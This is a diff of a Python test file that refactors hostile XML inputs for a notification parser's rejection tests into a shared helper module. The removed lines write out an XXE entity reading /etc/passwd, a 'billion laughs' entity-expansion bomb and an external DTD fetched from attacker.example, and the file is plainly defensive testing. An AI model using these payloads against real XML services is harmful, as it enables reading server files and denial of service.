@@ -19,6 +19,7 @@ from recepcja.cer.push import (
 from recepcja.cer.types import NotificationKind, VisitSource
 from recepcja.cer.wire import contract_schema
 from recepcja.domain.model import WARSAW
+from support import hostile_xml
 
 
 def push_body(
@@ -57,27 +58,19 @@ def test_all_four_kinds(wire, kind):
     assert parse_push_notification(push_body(wire)).kind is kind
 
 
-XXE = (
-    b'<?xml version="1.0"?><!DOCTYPE s:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+XXE = (  # the entity inside a real notification, where the parser reads the identifier
+    f"{hostile_xml.DECLARATION}{hostile_xml.xxe_doctype(root='s:Envelope')}".encode()
     + push_body().split(b"?>", 1)[1].replace(b"<c:idNotyfikacji>N-77", b"<c:idNotyfikacji>&xxe;")
 )
-LAUGHS = (
-    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
-    + b"".join(
-        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
-        for i in range(1, 10)
-    )
-    + b"]><lolz>&lol9;</lolz>"
-)
-EXTERNAL_DTD = b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://attacker.example/x.dtd"><x/>'
+LAUGHS = f"{hostile_xml.DECLARATION}{hostile_xml.laughs_doctype()}<lolz>{hostile_xml.LAUGH}</lolz>"
 
 
 @pytest.mark.parametrize(
     "body",
     [
         XXE,
-        LAUGHS,
-        EXTERNAL_DTD,
+        LAUGHS.encode(),
+        hostile_xml.EXTERNAL_DTD,
         b"<s:Envelope><unclosed>",
         b"",
         XXE.decode("utf-8").encode("utf-16"),
